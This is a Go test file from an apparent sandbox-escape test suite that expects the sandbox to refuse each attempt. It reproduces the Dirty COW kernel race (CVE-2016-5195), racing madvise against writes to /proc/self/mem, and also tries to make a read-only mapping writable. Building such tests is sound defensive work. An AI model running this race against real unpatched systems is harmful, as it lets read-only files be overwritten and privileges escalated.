package escape_test

import (
	"os"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

func TestF21CopyOnWrite(t *testing.T) {
	attack{
		ID: "F21", Title: "write to a private mapping of a read-only file while the pages are thrown away",
		Reference: "CVE-2016-5195 (Dirty COW)",
		Tiers:     process,
		Tries: []try{
			{Name: "race", NoControl: "needs Linux before 4.8.3", Slow: "it is a race", Want: refused(), Do: func(f *field) error {
				fd, err := unix.Open(f.read("file"), unix.O_RDONLY, 0)
				if err != nil {
					return err
				}
				m, err := unix.Mmap(fd, 0, 4096, unix.PROT_READ, unix.MAP_PRIVATE)
				if err != nil {
					return err
				}
				mem, err := os.OpenFile("/proc/self/mem", os.O_RDWR, 0)
				if err != nil {
					return err
				}
				end := time.Now().Add(500 * time.Millisecond)
				go func() {
					for time.Now().Before(end) {
						_ = unix.Madvise(m, unix.MADV_DONTNEED) // the race
					}
				}()
				at := int64(address(&m[0]))
				for time.Now().Before(end) {
					_, _ = mem.WriteAt([]byte("changed"), at)
				}
				buf := make([]byte, 16)
				if n, err := unix.Pread(fd, buf, 0); err != nil || string(buf[:n]) == "read\n" {
					return unix.EROFS
				}
				return nil
			}},
			{Name: "shared mapping made writable", NoControl: "the descriptor is for reading", Want: refused(unix.EACCES), Do: func(f *field) error {
				fd, err := unix.Open(f.read("file"), unix.O_RDONLY, 0)
				if err != nil {
					return err
				}
				m, err := unix.Mmap(fd, 0, 4096, unix.PROT_READ, unix.MAP_SHARED)
				if err != nil {
					return err
				}
				return unix.Mprotect(m, unix.PROT_READ|unix.PROT_WRITE)
			}},
		},
	}.run(t)
}
